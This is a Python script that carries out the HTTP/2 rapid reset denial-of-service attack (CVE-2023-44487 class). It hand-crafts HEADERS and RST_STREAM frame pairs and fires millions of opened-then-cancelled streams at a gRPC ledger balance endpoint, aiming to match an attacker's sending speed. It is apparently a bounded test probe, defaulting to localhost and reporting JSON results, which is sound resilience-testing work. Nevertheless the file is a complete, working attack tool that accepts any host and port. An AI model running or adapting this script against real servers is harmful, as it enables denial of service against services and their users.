#!/usr/bin/python3
"""HTTP/2 rapid reset (CVE-2023-44487 class): on one connection, open a stream with HEADERS for
/ledger.v1.Ledger/Balance and cancel it at once with RST_STREAM, again and again.

Bounded: sends for --seconds or until --max_streams are sent, whichever comes first, and holds the
connection open (reading) until --seconds are up. Frames are built by hand
(the header block is HPACK-encoded once by python3-hpack, which python3-h2 brings) so that one
Python process sends as fast as a real attacker's loop.

Usage: rapid_reset.py --port PORT [--host 127.0.0.1] [--seconds 4] [--max_streams 5000000]
                      [--rate STREAMS_PER_SECOND]
"""
import argparse
import json
import select
import socket
import struct
import sys
import time

import hpack

sys.path.insert(0, __import__("os").path.dirname(__file__))
from h2grpc import BALANCE_PATH, request_headers  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 0x1, 0x3, 0x4
END_HEADERS = 0x4
CANCEL = 0x8


def frame(kind, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream_id) + payload


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=4.0)
    parser.add_argument("--max_streams", type=int, default=5_000_000)
    parser.add_argument("--batch", type=int, default=200, help="streams per write")
    parser.add_argument("--rate", type=float, default=0,
                        help="streams per second at most (0: as fast as the socket takes them)")
    args = parser.parse_args()

    block = hpack.Encoder().encode(request_headers(BALANCE_PATH, f"{args.host}:{args.port}"))
    sock = socket.create_connection((args.host, args.port), timeout=5)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 0x1, 0))
    sock.setblocking(False)
    stream_id, sent, received, closed_by = 1, 0, 0, ""
    start = last_write = time.monotonic()
    end = start + args.seconds
    pending = b""
    pair_bytes = len(frame(HEADERS, END_HEADERS, 1, block) + frame(RST_STREAM, 0, 1, bytes(4)))
    # Until the time is up, also after the last stream is written: the connection stays open, as
    # an attacker's would, so that the server reads all that was sent (closing a socket with
    # unread input resets it, and the server's kernel drops what the server has not read yet).
    while time.monotonic() < end and not closed_by:
        due = args.max_streams if not args.rate else \
            min(args.max_streams, int(args.rate * (time.monotonic() - start)) + args.batch)
        if not pending and sent < due:
            chunk = bytearray()
            for _ in range(min(args.batch, due - sent)):
                chunk += frame(HEADERS, END_HEADERS, stream_id, block)
                chunk += frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL))
                stream_id += 2
                sent += 1
                if stream_id >= 2**31:
                    break
            pending = bytes(chunk)
        readable, writable, _ = select.select([sock], [sock] if pending else [], [], 0.05)
        if readable:
            try:
                data = sock.recv(1 << 20)
                if not data:
                    closed_by = "server closed the connection"
                received += len(data)
            except (BlockingIOError, InterruptedError):
                pass
            except OSError as error:
                closed_by = f"server reset the connection ({error})"
        if writable and pending:
            try:
                pending = pending[sock.send(pending):]
                last_write = time.monotonic()
            except (BlockingIOError, InterruptedError):
                pass
            except OSError as error:
                closed_by = f"send failed ({error})"
        if stream_id >= 2**31:
            closed_by = "stream ids exhausted"
    sock.close()
    sent -= -(-len(pending) // pair_bytes)  # Streams never written, rounded up.
    elapsed = time.monotonic() - start
    sending = max(last_write - start, 1e-3)
    print(json.dumps({"probe": "rapid_reset", "streams_sent": sent, "seconds": round(elapsed, 2),
                      "sending_seconds": round(sending, 2),
                      "streams_per_second": round(sent / sending), "bytes_received": received,
                      "ended_by": closed_by or "time or count bound"}))


if __name__ == "__main__":
    main()
